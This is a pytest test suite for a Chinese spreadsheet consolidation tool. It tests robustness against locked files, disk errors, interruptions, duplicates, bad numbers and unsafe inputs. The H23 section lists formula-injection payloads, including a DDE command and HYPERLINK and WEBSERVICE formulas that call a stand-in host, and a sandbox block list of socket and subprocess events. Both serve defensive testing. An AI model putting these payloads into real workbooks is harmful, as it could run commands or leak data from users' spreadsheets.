"""Files in use, disks that fail, doubles, dangerous texts, and two people at once: cases H17 to H23 and H26 to H28."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow.parquet
import pytest
from layouts import FormData, FundsRow, LayoutOptions, county_form, write_layout
from openpyxl import load_workbook
from support import HEARS_CTRL_C, WORKBOOKS, check_json, consolidate_json, read_json, run

from perf_xl import saving, trace
from perf_xl.folders import LEDGER, find_files
from perf_xl.ledger import interrupted
from perf_xl.saving import write_bytes

PUBLISHED = WORKBOOKS / "published"
COUNTY = county_form()


@pytest.fixture
def home(tmp_path: Path) -> Path:
    home = tmp_path / "报送"
    home.mkdir()
    filed(home / "甲.xlsx")
    return home


def filed(path: Path, form: FormData = COUNTY) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    write_layout(path, form, LayoutOptions())
    return path


def owner_file(path: Path, user: str = "张三") -> None:
    """What Excel leaves beside a workbook that is open."""
    name = user.encode("gbk")
    data = bytes([len(name)]) + name.ljust(54) + bytes([len(user), 0]) + user.ljust(54).encode("utf-16-le")
    path.with_name(f"~${path.name}").write_bytes(data)


def hold(patch: pytest.MonkeyPatch, name: str, seconds: float, winerror: int = 32) -> list[float]:
    """Another program holds the file of a name for so long, by a clock that only waiting moves."""
    rename, clock = os.replace, [0.0]

    def replace_(source: Any, target: Any, **more: Any) -> None:
        if Path(target).name == name and clock[0] < seconds:
            problem = PermissionError(errno.EACCES, "in use")
            problem.winerror = winerror  # type: ignore[attr-defined]
            raise problem
        rename(source, target, **more)

    patch.setattr(os, "replace", replace_)
    patch.setattr(saving, "sleep", lambda pause: clock.__setitem__(0, clock[0] + pause))
    return clock


def names_in(folder: Path) -> set[str]:
    return {path.name for path in folder.iterdir()}


# --- H17, H18, H19: files in use, disks that fail ---------------------------------------------------------------------


def test_h17_a_workbook_that_is_open_is_read_and_its_owner_file_is_not(home: Path) -> None:
    owner_file(home / "甲.xlsx")
    document = consolidate_json(home, home.parent / "结果")
    assert [document["files"][name] for name in ("seen", "read", "temporary", "refused")] == [2, 1, 1, 0]


def test_h17_a_workbook_that_cannot_be_opened_is_refused_in_words(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def in_use(*_: object) -> bytes:
        raise PermissionError(errno.EACCES, "in use")

    monkeypatch.setattr(Path, "read_bytes", in_use)
    result = run("read", home)
    assert "甲.xlsx:文件被占用或没有读取权限。请关闭正在使用它的程序" in result.stderr


def test_h17_a_result_that_is_open_is_written_beside_and_who_holds_it_is_said(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    output = home.parent / "汇总.xlsx"
    run("consolidate", home, "-o", output)
    before = output.read_bytes()
    filed(home / "乙.xlsx", replace(COUNTY, project="另一个项目"))
    owner_file(output)
    hold(monkeypatch, output.name, 1e9)
    result = run("consolidate", home, "-o", output)
    assert "“汇总.xlsx”正被 张三 占用,结果写到“汇总(2).xlsx”。" in result.stderr
    assert f"已写出 {output.with_name('汇总(2).xlsx')}" in result.stdout
    assert output.read_bytes() == before
    load_workbook(output.with_name("汇总(2).xlsx"))


@pytest.mark.parametrize("winerror", [5, 32, 33])
@pytest.mark.parametrize(("seconds", "place"), [(0.1, "汇总.xlsx"), (1, "汇总.xlsx"), (1e9, "汇总(2).xlsx")])
def test_h18_a_place_that_is_locked_for_a_while_or_for_ever(
    seconds: float, place: str, winerror: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "汇总.xlsx"
    path.write_bytes(b"old")
    clock = hold(monkeypatch, path.name, seconds, winerror)
    assert write_bytes(b"new", path) == tmp_path / place
    assert (tmp_path / place).read_bytes() == b"new"
    assert clock[0] <= 3.01
    assert names_in(tmp_path) == {"汇总.xlsx", place}
    assert place == path.name or path.read_bytes() == b"old"


@pytest.mark.parametrize(
    ("code", "words"),
    [
        (errno.ENOSPC, "磁盘已满"),
        (errno.EDQUOT, "配额"),
        (errno.EROFS, "只读"),
        (errno.EIO, "磁盘或网络出错"),
        (errno.ESTALE, "网络位置连不上"),
    ],
)
@pytest.mark.parametrize("command", ["consolidate", "check", "new"])
def test_h19_a_disk_that_takes_nothing(
    command: str, code: int, words: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = home.parent / "结果"
    out.mkdir()

    def fail(*_: object) -> None:
        raise OSError(code, os.strerror(code))

    monkeypatch.setattr(os, "fsync", fail)
    arguments = {
        "consolidate": [home, "-o", out / "a.xlsx"],
        "check": [home, "-o", out / "a.xlsx"],
        "new": [out / "a.xlsx"],
    }
    result = run(command, *arguments[command])
    assert result.exit_code == 2
    assert words in result.stderr
    assert "Traceback" not in result.stderr
    assert not [path for path in out.rglob("*") if path.is_file()]


def test_h19_a_share_that_vanishes_while_it_is_written_to(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    out = home.parent / "结果"

    def vanish(*_: object, **__: object) -> None:
        shutil.rmtree(out)
        raise FileNotFoundError(errno.ENOENT, "gone")

    monkeypatch.setattr(os, "replace", vanish)
    result = run("consolidate", home, "-o", out / "a.xlsx")
    assert result.exit_code == 2
    assert "文件夹不存在" in result.stderr


@pytest.mark.parametrize(
    "name", ["汇总😀.xlsx", "〇〇村汇总.xlsx", "㐂镕囍堃.xlsx", "𠮷.xlsx", "a" * 200 + ".xlsx", "甲 (最终版)#1%.xlsx"]
)
def test_h19_names_of_any_characters_are_written(name: str, home: Path) -> None:
    result = run("consolidate", home, "-o", home.parent / "结果" / name)
    assert result.exit_code in (0, 1), result.stderr
    load_workbook(home.parent / "结果" / name)


@pytest.mark.parametrize("name", ["CON.xlsx", "nul.xlsx", "很" * 300 + ".xlsx", "长" * 100 + ".xlsx"])
def test_h19_names_that_cannot_be_are_told_and_nothing_is_left(name: str, home: Path) -> None:
    out = home.parent / "结果"
    result = run("consolidate", home, "-o", out / name)
    assert result.exit_code == 2
    assert "文件名" in result.stderr
    assert not [path for path in out.rglob("*") if path.is_file() and path.suffix != ".jsonl"]


@pytest.mark.skipif(os.name != "posix", reason="elsewhere no file can be called so")
def test_h19_names_that_no_line_can_hold_are_told_by_numbers(home: Path) -> None:
    """A line break, a sign that turns the line round, a byte that is no text: in every output of every command."""
    for number, name in enumerate(
        [b"\xe7\x94\xb2\n.xlsx", "乙\u202ecod.xlsx".encode(), b"\xff\xfe.xlsx", b"\x1b[31m.xlsx"]
    ):
        form = replace(COUNTY, project=f"项目{number}")
        filed(home / "x.xlsx", form).rename(home / os.fsdecode(name))
    (home / os.fsdecode(b"bad\xff.xlsx")).write_bytes(b"")
    told = {"甲.xlsx", "甲\ufffdA.xlsx", "乙\ufffd202Ecod.xlsx", "\ufffdDCFF\ufffdDCFE.xlsx", "\ufffd1B[31m.xlsx"}
    out = home.parent / "结果"
    document = consolidate_json(home, out, "--tables", out / "表")
    assert {one["file"] for one in document["projects"]} == told
    assert [document["files"][name] for name in ("seen", "read", "refused")] == [6, 5, 1]
    assert {one["file"] for one in read_json(home)["forms"]} == told
    result = run("check", home, "--mark", out / "标注", "-o", out / "审核.xlsx")
    assert result.exit_code == 1
    assert {path.name for path in (out / "标注").iterdir()} == {name.replace(".xlsx", "_已审核.xlsx") for name in told}
    load_workbook(out / "审核.xlsx")


def test_h19_a_name_too_long_for_its_copy_is_told_and_the_others_are_marked(home: Path) -> None:
    filed(home / f"{'长' * 82}.xlsx")
    result = run("check", home, "--mark", home.parent / "标注")
    assert result.exit_code == 0
    assert "文件名太长,没有写出标注副本" in result.stdout + result.stderr
    assert names_in(home.parent / "标注") == {"甲_已审核.xlsx"}


# --- H20, H28: interruptions, and two at once -------------------------------------------------------------------------


def many(folder: Path, count: int) -> Path:
    """So many workbooks, each of another project."""
    folder.mkdir()
    filed(folder / "样.xlsx", replace(COUNTY, project="项目注记"))
    with zipfile.ZipFile(folder / "样.xlsx") as package:
        parts = {name: package.read(name) for name in package.namelist()}
    (folder / "样.xlsx").unlink()
    for number in range(count):
        with zipfile.ZipFile(folder / f"{number:03}.xlsx", "w", zipfile.ZIP_DEFLATED) as package:
            for name, data in parts.items():
                package.writestr(name, data.replace("项目注记".encode(), f"项目{number}".encode()))
    return folder


def started(home: Path, out: Path, *options: str) -> subprocess.Popen[bytes]:
    command = [sys.executable, "-m", "perf_xl.cli", "consolidate", str(home), "-o", str(out / "汇总.xlsx")]
    return subprocess.Popen([*command, *options], stdout=subprocess.PIPE, stderr=subprocess.PIPE, **HEARS_CTRL_C)


def wait_for_files_told(out: Path, process: subprocess.Popen[bytes]) -> None:
    """Wait until the run has told its ledger of a file, or is over."""
    ledger = out / "汇总_运行记录" / LEDGER
    while process.poll() is None and not (ledger.exists() and b'"file"' in ledger.read_bytes()):
        time.sleep(0.02)


@pytest.mark.parametrize("stop", [signal.SIGKILL, signal.SIGINT], ids=["H20 killed", "H28 Ctrl-C"])
def test_h20_h28_a_batch_that_is_stopped_goes_on_and_gives_the_same_bytes(stop: signal.Signals, tmp_path: Path) -> None:
    home = many(tmp_path / "报送", 50)
    before = {path: path.read_bytes() for path in home.iterdir()}
    assert run("consolidate", home, "-o", tmp_path / "整" / "汇总.xlsx", "--no-cache").exit_code in (0, 1)
    wanted = (tmp_path / "整" / "汇总.xlsx").read_bytes()
    out = tmp_path / "分"
    process = started(home, out, "--jobs", "1")
    wait_for_files_told(out, process)
    process.send_signal(stop)
    _, errors = process.communicate(timeout=60)
    assert b"Traceback" not in errors
    if process.returncode == 2:
        assert "再次运行同一命令即接着做" in errors.decode()
    if process.returncode not in (0, 1):
        run_ = interrupted(out / "汇总_运行记录" / LEDGER)
        assert run_ is not None
        assert run_.files
        assert not (out / "汇总.xlsx").exists()
    again = run("consolidate", home, "-o", out / "汇总.xlsx", "--resume")
    assert again.exit_code in (0, 1), again.stderr
    assert (out / "汇总.xlsx").read_bytes() == wanted
    assert {path: path.read_bytes() for path in home.iterdir()} == before


def test_h28_of_two_people_at_once_one_wins_and_the_other_is_told(tmp_path: Path) -> None:
    home, out = many(tmp_path / "报送", 40), tmp_path / "结果"
    first = started(home, out)
    wait_for_files_told(out, first)
    second = started(home, out)
    _, told = second.communicate(timeout=120)
    _, errors = first.communicate(timeout=120)
    assert first.returncode in (0, 1), errors.decode()
    if second.returncode == 2:
        assert f"进程 {first.pid}," in told.decode()
        assert "请等它完成后再运行" in told.decode()
    else:  # the first was done already
        assert second.returncode in (0, 1)
    load_workbook(out / "汇总.xlsx")


@pytest.mark.parametrize("shift", [-4e8, 4e8])
def test_h28_a_clock_that_is_wrong_changes_nothing(shift: float, home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    right = consolidate_json(home, home.parent / "一"), (home.parent / "一" / "汇总.xlsx").read_bytes()
    now = time.time
    monkeypatch.setattr(time, "time", lambda: now() + shift)
    monkeypatch.setattr(time, "time_ns", lambda: int((now() + shift) * 1e9))
    for _ in range(2):
        assert (consolidate_json(home, home.parent / "二"), (home.parent / "二" / "汇总.xlsx").read_bytes()) == right


# --- H21, H22: doubles, and other places ------------------------------------------------------------------------------


class TestH21:
    def test_h21_the_same_content_under_another_name_counts_once(self, home: Path) -> None:
        shutil.copy(home / "甲.xlsx", home / "甲 - 副本.xlsx")
        document = consolidate_json(home, home.parent / "结果")
        assert [document["files"][name] for name in ("seen", "read", "duplicate")] == [2, 1, 1]
        assert document["forms"][0]["sources"] == 1

    def test_h21_the_same_name_in_two_folders_is_two_files(self, home: Path) -> None:
        filed(home / "乡镇" / "甲.xlsx", replace(COUNTY, project="另一个项目", unit="城关镇"))
        document = consolidate_json(home, home.parent / "结果")
        assert [document["files"][name] for name in ("seen", "read")] == [2, 2]
        assert len(document["forms"]) == 2

    def test_h21_different_numbers_are_a_conflict_and_neither_counts(self, home: Path) -> None:
        more = tuple(replace(row, executed="860") if row.kind == "total" else row for row in COUNTY.funds)
        filed(home / "乙.xlsx", replace(COUNTY, funds=more))
        document = consolidate_json(home, home.parent / "结果")
        found = [one for one in document["findings"] if one["code"] == "C02"]
        assert found
        assert not any(form["sources"] for form in document["forms"])


def test_h22_other_order_other_place_other_times_same_bytes(home: Path, tmp_path: Path) -> None:
    filed(home / "乡镇" / "乙.xlsx", replace(COUNTY, project="另一个项目"))
    other = tmp_path / "别处" / "报送"
    other.mkdir(parents=True)
    for path in sorted(home.rglob("*.xlsx"), reverse=True):
        place = other / path.relative_to(home)
        place.parent.mkdir(exist_ok=True)
        shutil.copyfile(path, place)
        os.utime(place, (1e9, 1e9))
    results = []
    for folder in (home, other):
        consolidate_json(folder, folder.parent / "结果")
        results.append([(folder.parent / "结果" / f"汇总.{kind}").read_bytes() for kind in ("xlsx", "json")])
    assert results[0] == results[1]


# --- H23: dangerous texts ---------------------------------------------------------------------------------------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝")
TEXTS = [
    "=1+1注入",
    "+1+1注入",
    "-1+1注入",
    "@SUM(A1)注入",
    "\t=1注入",
    "\r=1注入",
    "＝1+1注入",
    '=HYPERLINK("http://h23.invalid/?"&A1,"注入")',
    "=cmd|' /C calc'!A0注入",
    '=WEBSERVICE("http://h23.invalid/注入")',
    "='[http://h23.invalid/a.xlsx]表'!A1注入",
]


def inject(path: Path, text: str) -> None:
    """Put a text in the place of the project's name, the unit's, an indicator's and a reason's, as a text."""
    form = replace(COUNTY, project="此处一", unit="此处二", indicators=tuple(
        replace(row, level3="此处三", reason="此处四") if at == 2 else row for at, row in enumerate(COUNTY.indicators)
    ))  # fmt: skip
    filed(path, form)
    book = load_workbook(path)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and (place := re.fullmatch("此处(.)", cell.value)):
                    cell.value = f"{text}{place[1]}"
                    cell.data_type = "s"
    book.save(path)


@pytest.mark.parametrize("text", TEXTS)
def test_h23_a_dangerous_text_is_a_text_in_every_output(text: str, tmp_path: Path) -> None:
    home, out = tmp_path / "报送", tmp_path / "结果"
    inject(home / "甲.xlsx", text)
    document = consolidate_json(home, out, "--tables", out / "表")
    assert run("check", home, "--mark", out / "标注", "-o", out / "审核.xlsx").exit_code in (0, 1)
    assert run("convert", home / "甲.xlsx", "-o", out / "转入.xlsx").exit_code == 0
    shown = read_json(home / "甲.xlsx")["forms"][0]["project"]
    assert "注入" in shown
    assert document["projects"][0]["project"] == shown
    workbooks = [out / "汇总.xlsx", out / "审核.xlsx", out / "转入.xlsx", *(out / "标注").iterdir()]
    assert len(workbooks) == 4
    for path in workbooks:
        assert_no_formula_holds(path, "注入")
        assert read_back(path, "注入"), path
    for path in (out / "表").glob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        assert not [cell for row in rows for cell in row if cell.startswith(DANGEROUS) and "注入" in cell], path
    projects = pyarrow.parquet.read_table(out / "表" / "projects.parquet").to_pylist()
    assert projects[0]["project"] == shown


def assert_no_formula_holds(path: Path, words: str) -> None:
    with zipfile.ZipFile(path) as package:
        for name in package.namelist():
            text = package.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not [one for one in re.findall(r"<f[^>]*>([^<]*)</f>", text) if words in one or "h23" in one]
            if name.endswith(".rels"):
                assert not re.search(r'Target="https?://h23', text), name
            assert "ddeLink" not in name
            assert not name.startswith("xl/externalLinks/")


def read_back(path: Path, words: str) -> list[str]:
    cells = [cell.value for sheet in load_workbook(path) for row in sheet.iter_rows() for cell in row]
    return [value for value in cells if isinstance(value, str) and words in value]


# --- H26: numbers that do not agree -----------------------------------------------------------------------------------


def with_row(at: int, **more: str | None) -> FormData:
    rows = tuple(replace(row, **more) if place == at else row for place, row in enumerate(COUNTY.indicators))
    return replace(COUNTY, indicators=rows)


def with_funds(at: int, **more: str) -> FormData:
    rows: Sequence[FundsRow] = [replace(row, **more) if place == at else row for place, row in enumerate(COUNTY.funds)]
    return replace(COUNTY, funds=tuple(rows))


@pytest.mark.parametrize(
    ("form", "expected"),
    [
        pytest.param(with_funds(1, budget="1100"), "1178", id="parts that do not add up"),
        pytest.param(with_row(0, weight="7"), "100", id="weights of 97"),
        pytest.param(with_row(0, score="11"), "10", id="a score above its weight"),
        pytest.param(with_row(0, score="-1"), None, id="a negative score"),
        pytest.param(replace(COUNTY, total_score="99"), "92.92", id="a total that is none"),
    ],
)
def test_h26_an_error_tells_what_is_expected(form: FormData, expected: str | None, tmp_path: Path) -> None:
    clean = {(one["code"], one["cell"]) for one in check_json(filed(tmp_path / "正.xlsx"))["findings"]}
    found = check_json(filed(tmp_path / "误.xlsx", form))["findings"]
    new = [one for one in found if (one["code"], one["cell"]) not in clean and one["severity"] == "错误"]
    assert new
    assert expected is None or any(expected in f"{one['expected']} {one['message']}" for one in new), new


@pytest.mark.parametrize("value", ["NaN", "1e308", "9" * 40, "inf", "0.1+0.2", "-", "１ ０"])
def test_h26_what_is_no_amount_is_told_and_never_counted(value: str, tmp_path: Path) -> None:
    path = filed(tmp_path / "甲.xlsx", replace(COUNTY, project="此处"))
    book = load_workbook(path)
    for row in book.active.iter_rows():
        for cell in row:
            if cell.value in (1278, "1278", 1278.0):
                cell.value = value
                cell.data_type = "s"
    book.save(path)
    document = consolidate_json(tmp_path, tmp_path.parent / f"{tmp_path.name}结果")
    text = json.dumps(document, ensure_ascii=False)
    assert "NaN" not in text.replace(f'"{value}"', "").replace(value, "")
    assert "Infinity" not in text
    total = next((row for row in document["forms"][0]["funds"] if row["kind"] == "total"), None)
    assert total is None or total["budget"] in (None, "10")
    assert check_json(path)["findings"]


def test_h26_tenths_add_up_exactly(tmp_path: Path) -> None:
    for number in range(10):
        funds = (FundsRow("年度资金总额", "total", "0.1", "0.1", "0.1", "10", "10"),)
        filed(tmp_path / "报送" / f"{number}.xlsx", replace(COUNTY, project=f"项目{number}", funds=funds))
    document = consolidate_json(tmp_path / "报送", tmp_path / "结果", "--as-one", "全县")
    total = next(row for row in document["forms"][0]["funds"] if row["kind"] == "total")
    assert [total[name] for name in ("initial_budget", "budget", "executed")] == ["1"] * 3


@pytest.mark.parametrize("remainder", ["0.0000000000000000555111512312578", "1E-320"])
def test_h26_what_is_left_of_a_subtraction_stops_no_table(
    remainder: str, home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A stored remainder with 31 decimals beside an amount of nine digits; what is too small for any amount is told."""
    filed(home / "乙.xlsx", replace(with_funds(0, budget="123456789.5"), project="大项目"))
    book = load_workbook(home / "乙.xlsx")
    cell = next(cell for row in book.active.iter_rows() for cell in row if cell.value == 123456789.5)
    book.active.cell(cell.row, cell.column).value = float(remainder)
    book.save(home / "丙.xlsx")
    monkeypatch.setattr(trace, "MOST_ROWS", 0)
    out = home.parent / "结果"
    consolidate_json(home, out, "--tables", out / "表")
    for path in (out / "表" / "contributions.parquet", out / "表" / "projects.parquet"):
        assert pyarrow.parquet.read_table(path).num_rows
    told = [one["message"] for one in check_json(home / "丙.xlsx")["findings"] if one["code"] == "X03"]
    assert any("不是数字" in message for message in told) == ("E" in remainder)


# --- H27: what stands in the file that is marked ----------------------------------------------------------------------

FOREIGN = {
    "xl/cellimages.xml": b'<etc:cellImages xmlns:etc="http://www.wps.cn/officeDocument/2017/etCustomData"/>',
    "xl/media/image9.png": b"\x89PNG" + bytes(range(256)),
    "xl/diagrams/data1.xml": b"<dgm:dataModel xmlns:dgm='http://schemas.openxmlformats.org/drawingml/2006/diagram'/>",
    "xl/ctrlProps/ctrlProp1.xml": b"<formControlPr xmlns='http://schemas.microsoft.com/office/spreadsheetml/2009/9/main'/>",
    "customXml/item1.xml": b"<root/>",
    "_xmlsignatures/sig1.xml": b"<Signature xmlns='http://www.w3.org/2000/09/xmldsig#'/>",
}


def test_h27_untouched_parts_stay_byte_for_byte_and_a_signature_is_told(home: Path) -> None:
    path = home / "甲.xlsx"
    filed(path, with_row(0, score="11"))
    with zipfile.ZipFile(path, "a") as package:
        for name, data in FOREIGN.items():
            package.writestr(name, data)
    before = path.read_bytes()
    result = run("check", home, "--mark", home.parent / "标注")
    assert "数字签名" in result.stderr
    assert path.read_bytes() == before
    (copy,) = (home.parent / "标注").iterdir()
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(copy) as new:
        for name, data in FOREIGN.items():
            assert new.read(name) == data
        changed = {name for name in old.namelist() if new.read(name) != old.read(name)}
    assert changed <= {
        "[Content_Types].xml", "xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/styles.xml", "docProps/app.xml",
        "xl/worksheets/sheet1.xml", "xl/worksheets/_rels/sheet1.xml.rels", "xl/sharedStrings.xml", "docProps/custom.xml",
        "_rels/.rels",
    }  # fmt: skip


# --- no socket, no other program, nothing written elsewhere -----------------------------------------------------------

HOOK = """
import os, sys
_allowed = tuple(os.environ["TRAP_ALLOWED"].split(os.pathsep))
_log = os.open(os.environ["TRAP_LOG"], os.O_WRONLY | os.O_APPEND)
_never = {"socket.connect", "socket.getaddrinfo", "socket.bind", "subprocess.Popen", "os.system", "os.exec", "os.posix_spawn",
          "os.startfile", "urllib.Request", "ftplib.connect", "smtplib.connect"}
_paths = {"os.remove": (0,), "os.rename": (0, 1), "os.mkdir": (0,), "os.rmdir": (0,), "os.link": (0, 1), "os.symlink": (1,),
          "os.truncate": (0,), "shutil.rmtree": (0,), "sqlite3.connect": (0,)}
def _outside(path):
    if isinstance(path, bytes):
        path = os.fsdecode(path)
    if not isinstance(path, (str, os.PathLike)):
        return False
    place = os.path.abspath(os.fspath(path))
    return place != os.devnull and not place.startswith(_allowed)
def _trap(event, arguments):
    bad = event in _never
    if event == "open":
        path, mode, flags = arguments
        writes = bool(set(mode) & set("wxa+")) if isinstance(mode, str) else bool((flags or 0) & (os.O_WRONLY | os.O_RDWR))
        bad = writes and _outside(path)
    elif event in _paths:
        bad = any(_outside(arguments[at]) for at in _paths[event])
    if bad:
        os.write(_log, f"{event} {arguments!r}\\n".encode("utf-8", "replace"))
sys.addaudithook(_trap)
"""


def trapped(tmp_path: Path, *arguments: str | Path) -> str:
    """Run a command with a trap in it and in every process it starts; return what was caught."""
    trap, log, scratch = tmp_path / "trap", tmp_path / "trap.log", tmp_path / "scratch"
    trap.mkdir(exist_ok=True)
    scratch.mkdir(exist_ok=True)
    (trap / "sitecustomize.py").write_text(HOOK, encoding="utf-8")
    log.write_bytes(b"")
    allowed = [tmp_path / "报送", tmp_path / "结果", scratch]
    environment = {
        **os.environ,
        "PYTHONPATH": os.pathsep.join([str(trap), *filter(None, [os.environ.get("PYTHONPATH")])]),
        "PYTHONDONTWRITEBYTECODE": "1",
        "TRAP_LOG": str(log),
        "TRAP_ALLOWED": os.pathsep.join(map(str, allowed)),
        "TMPDIR": str(scratch),
    }
    command = [sys.executable, "-m", "perf_xl.cli", *map(str, arguments)]
    result = subprocess.run(command, capture_output=True, env=environment, check=False, cwd=scratch)
    assert result.returncode in (0, 1), result.stderr.decode()
    return log.read_text(encoding="utf-8")


@pytest.mark.parametrize("command", ["read", "score", "check", "consolidate", "demo", "convert"])
def test_no_socket_no_program_and_nothing_written_elsewhere(command: str, tmp_path: Path) -> None:
    home, out = tmp_path / "报送", tmp_path / "结果"
    inject(home / "甲.xlsx", TEXTS[7])
    shutil.copy(PUBLISHED / "seed-000-A.xlsx", home / "乙.xlsx")
    (home / "坏.xlsx").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    arguments: dict[str, list[str | Path]] = {
        "read": ["read", home],
        "score": ["score", home],
        "check": ["check", home, "--mark", out / "标注", "-o", out / "审核.xlsx"],
        "consolidate": ["consolidate", home, "-o", out / "汇总.xlsx", "--tables", out / "表", "--jobs", "2"],
        "demo": ["demo", out / "演示"],
        "convert": ["convert", home / "乙.xlsx", "-o", out / "转入.xlsx"],
    }
    before = {path: path.read_bytes() for path in home.iterdir()}
    assert trapped(tmp_path, *arguments[command]) == ""
    assert {path: path.read_bytes() for path in home.iterdir()} == before


def test_the_trap_catches(tmp_path: Path) -> None:
    """A trap that catches nothing would prove nothing."""
    (tmp_path / "报送").mkdir()
    (tmp_path / "报送" / "甲.xlsx").write_bytes(b"x")
    trapped(tmp_path, "read", tmp_path / "报送")
    program = (
        "import socket, subprocess, sys\nopen(sys.argv[1], 'w').close()\nsubprocess.run([sys.executable, '-c', ''])\n"
    )
    program += "try:\n    socket.create_connection(('127.0.0.1', 9), timeout=1)\nexcept OSError:\n    pass\n"
    environment = {
        **os.environ, "PYTHONPATH": str(tmp_path / "trap"), "TRAP_LOG": str(tmp_path / "trap.log"), "TRAP_ALLOWED": str(tmp_path / "报送"),
    }  # fmt: skip
    command = [sys.executable, "-c", program, str(tmp_path / "外面.txt")]
    subprocess.run(command, env=environment, check=True)
    told = (tmp_path / "trap.log").read_text(encoding="utf-8")
    assert all(event in told for event in ("open", "subprocess.Popen", "socket.connect"))
    assert len(find_files([tmp_path / "报送"])) == 1
